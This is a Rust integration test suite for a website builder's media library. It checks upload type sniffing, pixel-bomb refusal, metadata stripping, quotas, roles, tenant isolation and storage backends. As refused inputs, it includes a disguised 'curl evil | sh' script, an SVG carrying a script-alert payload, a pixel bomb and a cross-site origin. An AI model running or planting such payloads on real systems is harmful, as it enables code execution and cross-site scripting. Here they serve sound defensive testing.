//! Uploads, the media library and stored files (issue 17): content sniffing, the pixel cap,
//! EXIF stripping, the quota under concurrent uploads, roles, tenancy of the file URL and of
//! the metadata, variants through the job queue, "used in" and delete while in use, and the
//! storage interface against the local disk and (when `SITEPILOT_TEST_S3_ENDPOINT` is set by
//! scripts/test.sh, which starts a local S3-compatible server) against S3.

use app::error::AppError;
use app::model::{AssetDeleted, AssetInfo, AssetLibrary, BlockProps};
use axum::body::Body;
use axum::http::{header, Request, StatusCode};
use axum::Router;
use serde_json::json;
use server::assets::{Backend, S3Settings, Storage};
use server::ServerConfig;
use sqlx::PgPool;
use uuid::Uuid;

use crate::common::*;

/// The test configuration with its own storage folder.
fn media_config(backend: Option<Backend>) -> ServerConfig {
    let dir = std::env::temp_dir().join(unique("sp-assets-"));
    ServerConfig {
        asset_storage: backend.unwrap_or(Backend::Local(dir)),
        ..config()
    }
}

/// The local S3-compatible server scripts/test.sh started, if any.
pub fn s3_backend() -> Option<Backend> {
    let endpoint = std::env::var("SITEPILOT_TEST_S3_ENDPOINT").ok()?;
    Some(Backend::S3(S3Settings {
        bucket: std::env::var("SITEPILOT_TEST_S3_BUCKET")
            .unwrap_or_else(|_| "sitepilot-test".into()),
        endpoint: Some(endpoint),
        region: "us-east-1".into(),
        access_key_id: "testing".into(),
        secret_access_key: "testing".into(),
        path_style: true,
    }))
}

fn multipart(name: &str, bytes: &[u8]) -> (String, Vec<u8>) {
    let boundary = format!("----sp{}", Uuid::new_v4().simple());
    let mut body = Vec::new();
    body.extend_from_slice(
        format!(
            "--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\nContent-Type: application/octet-stream\r\n\r\n"
        )
        .as_bytes(),
    );
    body.extend_from_slice(bytes);
    body.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
    (format!("multipart/form-data; boundary={boundary}"), body)
}

/// `POST /media/upload` as a browser would send it.
pub async fn upload(router: &Router, cookie: Option<&str>, name: &str, bytes: &[u8]) -> Raw {
    let (ct, body) = multipart(name, bytes);
    let mut req = Request::post("/media/upload")
        .header(header::HOST, "127.0.0.1")
        .header(header::ORIGIN, APP_ORIGIN)
        .header(header::CONTENT_TYPE, ct);
    if let Some(c) = cookie {
        req = req.header(header::COOKIE, c);
    }
    send_raw(router, req.body(Body::from(body)).expect("request")).await
}

fn info(raw: &Raw) -> AssetInfo {
    assert_eq!(
        raw.status,
        StatusCode::CREATED,
        "upload failed: {}",
        String::from_utf8_lossy(&raw.body)
    );
    serde_json::from_slice(&raw.body).expect("asset json")
}

fn error(raw: &Raw) -> AppError {
    assert!(
        !raw.status.is_success(),
        "expected a refusal, got {}",
        raw.status
    );
    serde_json::from_slice(&raw.body).expect("typed error")
}

/// GET a stored file on `host` with an optional session.
pub async fn fetch(router: &Router, host: &str, path: &str, cookie: Option<&str>) -> Raw {
    let mut req = Request::get(path).header(header::HOST, host);
    if let Some(c) = cookie {
        req = req.header(header::COOKIE, c);
    }
    send_raw(router, req.body(Body::empty()).expect("request")).await
}

/// A photo-like RGB image (a gradient, so it compresses like a photo, not like a flat colour).
fn rgb(w: u32, h: u32) -> image::RgbImage {
    image::RgbImage::from_fn(w, h, |x, y| {
        image::Rgb([
            (x * 255 / w) as u8,
            (y * 255 / h) as u8,
            ((x + y) % 256) as u8,
        ])
    })
}

pub fn png(w: u32, h: u32) -> Vec<u8> {
    let mut out = std::io::Cursor::new(Vec::new());
    image::DynamicImage::ImageRgb8(rgb(w, h))
        .write_to(&mut out, image::ImageFormat::Png)
        .expect("png");
    out.into_inner()
}

/// A JPEG carrying an EXIF segment with GPS coordinates (and a marker to look for).
pub fn jpeg_with_gps(w: u32, h: u32) -> Vec<u8> {
    let mut plain = std::io::Cursor::new(Vec::new());
    image::DynamicImage::ImageRgb8(rgb(w, h))
        .write_to(&mut plain, image::ImageFormat::Jpeg)
        .expect("jpeg");
    let plain = plain.into_inner();
    // APP1 "Exif\0\0" + a little-endian TIFF header + our marker text standing in for GPS tags.
    let mut payload = b"Exif\0\0II*\0\x08\0\0\0".to_vec();
    payload.extend_from_slice(b"GPSLatitude 51.5007N GPSLongitude 0.1246W SECRET-HOME");
    let len = (payload.len() + 2) as u16;
    let mut out = vec![0xFF, 0xD8, 0xFF, 0xE1];
    out.extend_from_slice(&len.to_be_bytes());
    out.extend_from_slice(&payload);
    out.extend_from_slice(&plain[2..]);
    out
}

/// A PNG header claiming 100,000 × 100,000 pixels (no pixel data follows).
fn png_bomb() -> Vec<u8> {
    let mut out = vec![0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A];
    out.extend_from_slice(&13u32.to_be_bytes());
    out.extend_from_slice(b"IHDR");
    out.extend_from_slice(&100_000u32.to_be_bytes());
    out.extend_from_slice(&100_000u32.to_be_bytes());
    out.extend_from_slice(&[8, 2, 0, 0, 0]);
    out.extend_from_slice(&[0, 0, 0, 0]); // CRC (not checked before the size is)
    out.resize(200, 0);
    out
}

struct Setup {
    pool: PgPool,
    router: Router,
    config: ServerConfig,
    a: app::db::accounts::NewAccount,
    owner: String,
}

async fn setup(backend: Option<Backend>) -> Setup {
    let pool = pool().await;
    let config = media_config(backend);
    let router = build(&config, pool.clone());
    let a = account(&pool, "Media Cafe").await;
    let owner = cookie_for(&a);
    Setup {
        pool,
        router,
        config,
        a,
        owner,
    }
}

async fn library(router: &Router, cookie: &str) -> AssetLibrary {
    let reply = call_json(
        router,
        "/api/assets/list",
        Some(cookie),
        json!({ "query": {} }),
    )
    .await;
    assert!(reply.status.is_success(), "{}", reply.text());
    reply.json()
}

async fn run_jobs(s: &Setup) -> usize {
    let registry = server::jobs::registry(&s.config, &s.pool);
    server::jobs::run_due_for(&s.pool, &registry, s.a.tenant_id).await
}

#[tokio::test]
async fn the_content_decides_the_type_not_the_name() {
    let s = setup(None).await;
    let png = png(40, 30);
    let err = error(&upload(&s.router, Some(&s.owner), "report.pdf", &png).await);
    assert!(
        matches!(&err, AppError::Invalid { field, message } if field == "file"
            && message.contains("named like a PDF document but its content is a PNG image")),
        "{err:?}"
    );
    let err = error(
        &upload(
            &s.router,
            Some(&s.owner),
            "photo.jpg",
            b"#!/bin/sh\ncurl evil | sh\n".repeat(8).as_slice(),
        )
        .await,
    );
    assert!(
        err.to_string()
            .contains("named like a JPEG image but its content is not"),
        "{err}"
    );
    let svg = b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>";
    let err = error(&upload(&s.router, Some(&s.owner), "logo.svg", svg).await);
    assert!(
        err.to_string().contains("SVG files are not accepted"),
        "{err}"
    );
    // Nothing was recorded for the refused files; the real PNG is accepted as a PNG.
    assert!(library(&s.router, &s.owner).await.assets.is_empty());
    let ok = info(&upload(&s.router, Some(&s.owner), "photo.png", &png).await);
    assert_eq!(
        (ok.format.as_str(), ok.width, ok.height),
        ("png", Some(40), Some(30))
    );
    assert!(ok.url.ends_with("/o40x30.png"), "{}", ok.url);
    let pdf = b"%PDF-1.4\n% a tiny document\n".repeat(4);
    let doc = info(&upload(&s.router, Some(&s.owner), "menu.pdf", &pdf).await);
    assert_eq!((doc.format.as_str(), doc.width), ("pdf", None));
}

#[tokio::test]
async fn a_pixel_bomb_is_refused_before_it_is_decoded() {
    let s = setup(None).await;
    let err = error(&upload(&s.router, Some(&s.owner), "bomb.png", &png_bomb()).await);
    assert!(
        err.to_string().contains("100000×100000 pixels") && err.to_string().contains("megapixels"),
        "{err}"
    );
    assert!(library(&s.router, &s.owner).await.assets.is_empty());
}

#[tokio::test]
async fn exif_and_gps_are_stripped_from_stored_images() {
    let s = setup(None).await;
    let jpeg = jpeg_with_gps(64, 48);
    assert!(jpeg.windows(11).any(|w| w == b"SECRET-HOME"));
    let a = info(&upload(&s.router, Some(&s.owner), "home.jpg", &jpeg).await);
    assert_eq!((a.width, a.height), (Some(64), Some(48)));
    let file = fetch(&s.router, "127.0.0.1", &a.url, Some(&s.owner)).await;
    assert_eq!(file.status, StatusCode::OK);
    assert!(
        !file.body.windows(11).any(|w| w == b"SECRET-HOME"),
        "GPS text survived"
    );
    assert!(
        !file.body.windows(6).any(|w| w == b"Exif\0\0"),
        "EXIF segment survived"
    );
    let decoded = image::load_from_memory(&file.body).expect("still a JPEG");
    assert_eq!((decoded.width(), decoded.height()), (64, 48));
}

#[tokio::test]
async fn gif_comments_and_xmp_are_stripped_from_stored_files() {
    let s = setup(None).await;
    // A 1×1 GIF89a carrying a comment and an XMP packet, both with a home address.
    let mut gif = b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff".to_vec();
    gif.extend_from_slice(b"\x21\xFE\x0bSECRET-HOME\0");
    gif.extend_from_slice(b"\x21\xFF\x0bXMP DataXMP\x0bSECRET-HOME\0");
    gif.extend_from_slice(b"\x2C\0\0\0\0\x01\0\x01\0\0\x02\x02\x44\x01\0\x3B");
    let a = info(&upload(&s.router, Some(&s.owner), "dot.gif", &gif).await);
    assert_eq!((a.width, a.height), (Some(1), Some(1)));
    let file = fetch(&s.router, "127.0.0.1", &a.url, Some(&s.owner)).await;
    assert_eq!(file.status, StatusCode::OK);
    assert!(
        !file.body.windows(11).any(|w| w == b"SECRET-HOME"),
        "GIF metadata survived"
    );
    let decoded = image::load_from_memory(&file.body).expect("still a GIF");
    assert_eq!((decoded.width(), decoded.height()), (1, 1));
}

#[tokio::test]
async fn two_concurrent_uploads_cannot_overshoot_the_quota() {
    let s = setup(None).await;
    // Fill the Starter plan's 100 MB up to 1.5 MB below the limit.
    let mut tx = app::db::tenant_tx(&s.pool, s.a.tenant_id)
        .await
        .expect("tx");
    sqlx::query(
        "INSERT INTO assets (tenant_id, original_filename, cloudinary_public_id, cloudinary_url, secure_url, size_bytes)
         VALUES ($1, 'filler.bin', $2, '', '', $3)",
    )
    .bind(s.a.tenant_id)
    .bind(format!("filler-{}", Uuid::new_v4()))
    .bind(100i64 * 1024 * 1024 - 1536 * 1024)
    .execute(&mut *tx)
    .await
    .expect("filler");
    tx.commit().await.expect("commit");
    // Two 1 MB documents: each fits alone, both do not.
    let mut doc = b"%PDF-1.4\n".to_vec();
    doc.resize(1024 * 1024, b' ');
    let (r1, r2) = tokio::join!(
        upload(&s.router, Some(&s.owner), "one.pdf", &doc),
        upload(&s.router, Some(&s.owner), "two.pdf", &doc)
    );
    let statuses = [r1.status, r2.status];
    assert!(
        statuses.contains(&StatusCode::CREATED) && statuses.contains(&StatusCode::PAYMENT_REQUIRED),
        "one upload must win and one be refused: {statuses:?}"
    );
    let refused = if r1.status == StatusCode::PAYMENT_REQUIRED {
        &r1
    } else {
        &r2
    };
    match error(refused) {
        AppError::LimitReached {
            limit, upgrade_to, ..
        } => {
            assert_eq!(limit, "storage_limit_mb");
            assert_eq!(upgrade_to.as_deref(), Some("Growth"));
        }
        other => panic!("expected LimitReached, got {other:?}"),
    }
    let lib = library(&s.router, &s.owner).await;
    assert!(
        lib.used_bytes <= lib.limit_bytes,
        "{} > {}",
        lib.used_bytes,
        lib.limit_bytes
    );
    assert_eq!(lib.assets.len(), 2, "the filler and one upload");
}

#[tokio::test]
async fn a_file_above_the_plans_cap_is_refused_while_streaming() {
    let s = setup(None).await;
    let mut doc = b"%PDF-1.4\n".to_vec();
    doc.resize(10 * 1024 * 1024 + 1, b' ');
    let raw = upload(&s.router, Some(&s.owner), "big.pdf", &doc).await;
    assert_eq!(raw.status, StatusCode::PAYMENT_REQUIRED);
    match error(&raw) {
        AppError::LimitReached { limit, .. } => assert_eq!(limit, "max_upload_mb"),
        other => panic!("expected LimitReached, got {other:?}"),
    }
}

#[tokio::test]
async fn viewers_browse_but_cannot_upload_rename_or_delete() {
    let s = setup(None).await;
    let (viewer, _) = member(&s.pool, &s.a, "viewer", None).await;
    let (editor, _) = member(&s.pool, &s.a, "editor", None).await;
    let raw = upload(&s.router, Some(&viewer), "a.png", &png(8, 8)).await;
    assert!(
        matches!(error(&raw), AppError::Forbidden(_)),
        "{}",
        raw.status
    );
    let a = info(&upload(&s.router, Some(&editor), "a.png", &png(8, 8)).await);
    let lib = library(&s.router, &viewer).await;
    assert_eq!(lib.assets.len(), 1);
    assert!(!lib.can_upload);
    let file = fetch(&s.router, "127.0.0.1", &a.url, Some(&viewer)).await;
    assert_eq!(file.status, StatusCode::OK);
    let r = call_json(
        &s.router,
        "/api/assets/update",
        Some(&viewer),
        json!({ "asset_id": a.id, "display_name": "x", "tags": [] }),
    )
    .await;
    assert!(matches!(r.error(), AppError::Forbidden(_)));
    let r = call_json(
        &s.router,
        "/api/assets/delete",
        Some(&viewer),
        json!({ "asset_id": a.id, "force": true }),
    )
    .await;
    assert!(matches!(r.error(), AppError::Forbidden(_)));
    let anonymous = upload(&s.router, None, "a.png", &png(8, 8)).await;
    assert_eq!(anonymous.status, StatusCode::UNAUTHORIZED);
    // A cross-site post is refused like every other state-changing request.
    let (ct, body) = multipart("a.png", &png(8, 8));
    let req = Request::post("/media/upload")
        .header(header::HOST, "127.0.0.1")
        .header(header::ORIGIN, "https://evil.example")
        .header(header::CONTENT_TYPE, ct)
        .header(header::COOKIE, &editor)
        .body(Body::from(body))
        .expect("request");
    assert_eq!(send_raw(&s.router, req).await.status, StatusCode::FORBIDDEN);
    // Rename and tags by the editor.
    let r = call_json(&s.router, "/api/assets/update", Some(&editor), json!({ "asset_id": a.id, "display_name": "Front door", "tags": ["Shop", "shop", " hero "] })).await;
    let updated: AssetInfo = r.json();
    assert_eq!(updated.name, "Front door");
    assert_eq!(updated.tags, vec!["shop".to_string(), "hero".to_string()]);
}

#[tokio::test]
async fn another_tenant_never_reaches_private_files_or_metadata() {
    let s = setup(None).await;
    let a = info(&upload(&s.router, Some(&s.owner), "private.png", &png(20, 20)).await);
    let other = account(&s.pool, "Nosy Cafe").await;
    let intruder = cookie_for(&other);
    for cookie in [Some(intruder.as_str()), None] {
        let r = fetch(&s.router, "127.0.0.1", &a.url, cookie).await;
        assert_eq!(r.status, StatusCode::NOT_FOUND, "file for {cookie:?}");
        // Even on a site host (the visitor path).
        let r = fetch(
            &s.router,
            &format!("{}.localhost", s.a.subdomain),
            &a.url,
            None,
        )
        .await;
        assert_eq!(r.status, StatusCode::NOT_FOUND);
    }
    // The intruder's library does not list it, and its id is unknown to the intruder.
    assert!(library(&s.router, &intruder).await.assets.is_empty());
    let r = call_json(
        &s.router,
        "/api/assets/update",
        Some(&intruder),
        json!({ "asset_id": a.id, "display_name": "mine", "tags": [] }),
    )
    .await;
    assert!(matches!(r.error(), AppError::NotFound(_)));
    let r = call_json(
        &s.router,
        "/api/assets/delete",
        Some(&intruder),
        json!({ "asset_id": a.id, "force": true }),
    )
    .await;
    assert!(matches!(r.error(), AppError::NotFound(_)));
    assert_eq!(library(&s.router, &s.owner).await.assets.len(), 1);
    // A path that names another tenant's key never resolves to ours.
    let forged = a
        .url
        .replace(&s.a.tenant_id.to_string(), &other.tenant_id.to_string());
    let r = fetch(&s.router, "127.0.0.1", &forged, Some(&intruder)).await;
    assert_eq!(r.status, StatusCode::NOT_FOUND);
}

/// Puts `url` as the home page hero's background image; returns the new revision.
async fn place_in_hero(s: &Setup, url: &str) {
    let page = load_page(&s.router, &s.owner, s.a.home_page_id).await;
    let hero = page
        .components
        .iter()
        .find(|c| matches!(c.block, BlockProps::Hero(_)))
        .expect("starter page has a hero")
        .clone();
    let mut block = hero.block.clone();
    if let BlockProps::Hero(p) = &mut block {
        p.background_type = "image".into();
        p.background_image = url.into();
    }
    let r = call_json(
        &s.router,
        "/api/builder/update",
        Some(&s.owner),
        json!({ "page_id": s.a.home_page_id, "component_id": hero.id, "block": block, "base_revision": page.revision }),
    )
    .await;
    assert!(r.status.is_success(), "{}", r.text());
}

#[tokio::test]
async fn published_images_render_with_srcset_and_survive_deletion() {
    let s = setup(None).await;
    let a = info(&upload(&s.router, Some(&s.owner), "hero.png", &png(1200, 800)).await);
    // Variants come from the job queue, not the upload request.
    assert!(!a.thumb_url.contains("w480"), "{}", a.thumb_url);
    assert_eq!(run_jobs(&s).await, 1);
    let lib = library(&s.router, &s.owner).await;
    assert!(
        lib.assets[0].thumb_url.ends_with("/w480.webp"),
        "{:?}",
        lib.assets[0]
    );
    let w480 = fetch(
        &s.router,
        "127.0.0.1",
        &lib.assets[0].thumb_url,
        Some(&s.owner),
    )
    .await;
    assert_eq!(w480.status, StatusCode::OK);
    assert_eq!(w480.headers[header::CONTENT_TYPE], "image/webp");
    let v = image::load_from_memory(&w480.body).expect("webp");
    assert_eq!((v.width(), v.height()), (480, 320));

    place_in_hero(&s, &a.url).await;
    let lib = library(&s.router, &s.owner).await;
    assert_eq!(lib.assets[0].used_in.len(), 1, "used_in after saving props");
    let r = call_json(
        &s.router,
        "/api/websites/publish",
        Some(&s.owner),
        json!({ "website_id": s.a.website_id }),
    )
    .await;
    assert!(r.status.is_success(), "{}", r.text());

    // The visitor page: srcset, sizes, width, height, no lazy loading and high priority.
    let host = format!("{}.localhost", s.a.subdomain);
    let page = get(&s.router, &host, "/").await.text();
    let img = page
        .split("<img")
        .find(|t| t.contains("sp-hero-bg"))
        .unwrap_or_else(|| panic!("no hero img in {page}"));
    for needle in [
        format!("src=\"{}\"", a.url),
        "width=\"1200\"".to_string(),
        "height=\"800\"".to_string(),
        "w480.webp 480w".to_string(),
        "w960.webp 960w".to_string(),
        "1200w".to_string(),
        "sizes=\"100vw\"".to_string(),
        "fetchpriority=\"high\"".to_string(),
        "decoding=\"async\"".to_string(),
    ] {
        assert!(img.contains(&needle), "{needle} missing in <img{img}");
    }
    assert!(!img
        .split('>')
        .next()
        .unwrap_or("")
        .contains("loading=\"lazy\""));
    // Visitors (no session) may now fetch it, with long-lived public caching.
    let r = fetch(&s.router, &host, &a.url, None).await;
    assert_eq!(r.status, StatusCode::OK);
    assert_eq!(
        r.headers[header::CACHE_CONTROL],
        "public, max-age=31536000, immutable"
    );
    let r = fetch(&s.router, &host, &lib.assets[0].thumb_url, None).await;
    assert_eq!(r.status, StatusCode::OK);

    // Deleting asks first and names the page.
    let r = call_json(
        &s.router,
        "/api/assets/delete",
        Some(&s.owner),
        json!({ "asset_id": a.id, "force": false }),
    )
    .await;
    match r.json::<AssetDeleted>() {
        AssetDeleted::InUse { pages } => {
            assert!(pages.iter().any(|p| p.ends_with("› Home")), "{pages:?}")
        }
        other => panic!("expected InUse, got {other:?}"),
    }
    assert_eq!(library(&s.router, &s.owner).await.assets.len(), 1);
    let r = call_json(
        &s.router,
        "/api/assets/delete",
        Some(&s.owner),
        json!({ "asset_id": a.id, "force": true }),
    )
    .await;
    assert_eq!(r.json::<AssetDeleted>(), AssetDeleted::Deleted);
    assert!(library(&s.router, &s.owner).await.assets.is_empty());
    run_jobs(&s).await;
    // The published page still shows it.
    let r = fetch(&s.router, &host, &a.url, None).await;
    assert_eq!(r.status, StatusCode::OK, "published file gone after delete");
}

#[tokio::test]
async fn an_unpublished_deleted_asset_loses_its_files() {
    let s = setup(None).await;
    let a = info(&upload(&s.router, Some(&s.owner), "gone.png", &png(600, 400)).await);
    run_jobs(&s).await;
    let r = call_json(
        &s.router,
        "/api/assets/delete",
        Some(&s.owner),
        json!({ "asset_id": a.id, "force": false }),
    )
    .await;
    assert_eq!(r.json::<AssetDeleted>(), AssetDeleted::Deleted);
    assert_eq!(run_jobs(&s).await, 1, "the purge job");
    let r = fetch(&s.router, "127.0.0.1", &a.url, Some(&s.owner)).await;
    assert_eq!(r.status, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn the_library_searches_filters_and_sorts() {
    let s = setup(None).await;
    info(&upload(&s.router, Some(&s.owner), "Beach.png", &png(30, 20)).await);
    info(&upload(&s.router, Some(&s.owner), "alps.png", &png(300, 200)).await);
    let pdf = b"%PDF-1.4\n".repeat(10);
    let doc = info(&upload(&s.router, Some(&s.owner), "menu.pdf", &pdf).await);
    call_json(
        &s.router,
        "/api/assets/update",
        Some(&s.owner),
        json!({ "asset_id": doc.id, "display_name": "", "tags": ["print"] }),
    )
    .await;
    let q = |query: serde_json::Value| {
        let router = s.router.clone();
        let owner = s.owner.clone();
        async move {
            let r = call_json(
                &router,
                "/api/assets/list",
                Some(&owner),
                json!({ "query": query }),
            )
            .await;
            assert!(r.status.is_success(), "{}", r.text());
            r.json::<AssetLibrary>()
                .assets
                .into_iter()
                .map(|a| a.name)
                .collect::<Vec<_>>()
        }
    };
    assert_eq!(q(json!({ "search": "BEA" })).await, vec!["Beach.png"]);
    assert_eq!(q(json!({ "kind": "raw" })).await, vec!["menu.pdf"]);
    assert_eq!(q(json!({ "tag": "print" })).await, vec!["menu.pdf"]);
    assert_eq!(
        q(json!({ "sort": "name" })).await,
        vec!["alps.png", "Beach.png", "menu.pdf"]
    );
    assert_eq!(q(json!({ "sort": "size" })).await[0], "alps.png");
    let r = call_json(
        &s.router,
        "/api/assets/list",
        Some(&s.owner),
        json!({ "query": { "sort": "colour" } }),
    )
    .await;
    assert!(matches!(r.error(), AppError::Invalid { .. }));
}

/// The storage interface itself: the same checks on every backend.
async fn storage_suite(backend: Backend) {
    let storage = Storage::open(&backend).expect("open");
    let key = format!("tenants/{}/{}/original.pdf", Uuid::new_v4(), Uuid::new_v4());
    let dir = std::env::temp_dir().join(unique("sp-suite-"));
    std::fs::create_dir_all(&dir).expect("dir");
    // Larger than one part, so the multipart path runs.
    let big: Vec<u8> = (0..(12 * 1024 * 1024)).map(|i| (i % 251) as u8).collect();
    let path = dir.join("big");
    std::fs::write(&path, &big).expect("write");
    assert_eq!(
        storage.put_file(&key, &path).await.expect("put"),
        big.len() as u64
    );
    assert!(storage.exists(&key).await.expect("head"));
    let back = storage.get_bytes(&key).await.expect("get").expect("found");
    assert!(back.as_ref() == big.as_slice(), "content differs");
    let small_key = key.replace("original.pdf", "w480.webp");
    storage
        .put_bytes(&small_key, b"tiny".to_vec())
        .await
        .expect("put small");
    let obj = storage.get(&small_key).await.expect("get").expect("found");
    assert_eq!(obj.size, 4);
    storage.delete(&key).await.expect("delete");
    storage.delete(&key).await.expect("deleting twice is fine");
    assert!(storage.get(&key).await.expect("get").is_none());
    assert!(!storage.exists(&key).await.expect("head"));
    let _ = std::fs::remove_dir_all(dir);
}

#[tokio::test]
async fn storage_suite_on_local_disk() {
    storage_suite(Backend::Local(
        std::env::temp_dir().join(unique("sp-store-")),
    ))
    .await;
}

#[tokio::test]
async fn storage_suite_on_s3() {
    let Some(backend) = s3_backend() else {
        eprintln!("SITEPILOT_TEST_S3_ENDPOINT is not set: the S3 suite needs scripts/test.sh's local S3 server");
        return;
    };
    storage_suite(backend.clone()).await;
    // And the whole upload path on S3: stored, served, variants made.
    let s = setup(Some(backend)).await;
    let a = info(
        &upload(
            &s.router,
            Some(&s.owner),
            "s3.jpg",
            &jpeg_with_gps(800, 600),
        )
        .await,
    );
    let r = fetch(&s.router, "127.0.0.1", &a.url, Some(&s.owner)).await;
    assert_eq!(r.status, StatusCode::OK);
    assert!(!r.body.windows(11).any(|w| w == b"SECRET-HOME"));
    assert_eq!(run_jobs(&s).await, 1);
    let lib = library(&s.router, &s.owner).await;
    let w = fetch(
        &s.router,
        "127.0.0.1",
        &lib.assets[0].thumb_url,
        Some(&s.owner),
    )
    .await;
    assert_eq!(w.status, StatusCode::OK);
    assert_eq!(w.headers[header::CONTENT_TYPE], "image/webp");
}

/// "Download backup with media" (issue 20 §4): a zip with `website.json` and the tenant's files
/// that its asset manifest names, byte for byte; another tenant gets 404.
#[tokio::test]
async fn the_backup_zip_holds_the_document_and_the_named_media_files() {
    use std::io::Read;
    let pool = pool().await;
    let router = build(&media_config(None), pool.clone());
    let a = account(&pool, "Zip Bakery").await;
    let b = account(&pool, "Zip Rival").await;
    let owner = cookie_for(&a);
    let bytes = png(64, 48);
    let asset = info(&upload(&router, Some(&owner), "bread.png", &bytes).await);
    let page = load_page(&router, &owner, a.home_page_id).await;
    let hero = page.components[1].clone();
    let mut props = hero.block.props_json();
    props["background_image"] = json!(asset.url);
    let block = BlockProps::from_parts("hero", props).expect("hero");
    let r = call_json(
        &router,
        "/api/builder/update",
        Some(&owner),
        json!({
        "page_id": a.home_page_id, "component_id": hero.id, "block": block,
        "base_revision": page.revision }),
    )
    .await;
    assert!(r.status.is_success(), "{}", r.text());

    let path = format!("/websites/{}/export.zip", a.website_id);
    let raw = fetch(&router, "127.0.0.1", &path, Some(&owner)).await;
    assert_eq!(
        raw.status,
        StatusCode::OK,
        "{}",
        String::from_utf8_lossy(&raw.body)
    );
    assert_eq!(raw.header("content-type"), Some("application/zip"));
    assert!(raw
        .header("content-disposition")
        .is_some_and(|d| d.contains(".sitepilot.zip")));
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(raw.body.clone())).expect("a zip");
    let mut doc = String::new();
    zip.by_name("website.json")
        .expect("website.json")
        .read_to_string(&mut doc)
        .expect("read");
    let doc: serde_json::Value = serde_json::from_str(&doc).expect("json");
    assert_eq!(doc["format"], "sitepilot.website");
    assert!(doc["assets"]
        .as_array()
        .expect("manifest")
        .contains(&json!(asset.url)));
    let mut file = Vec::new();
    zip.by_name(asset.url.trim_start_matches('/'))
        .expect("the uploaded file")
        .read_to_end(&mut file)
        .expect("read");
    assert_eq!(
        image::load_from_memory(&file)
            .expect("an image")
            .into_rgb8(),
        image::load_from_memory(&bytes)
            .expect("an image")
            .into_rgb8(),
        "the stored original"
    );
    assert_eq!(zip.len(), 2, "the document and the one file it names");

    let other = fetch(&router, "127.0.0.1", &path, Some(&cookie_for(&b))).await;
    assert_eq!(other.status, StatusCode::NOT_FOUND);
}
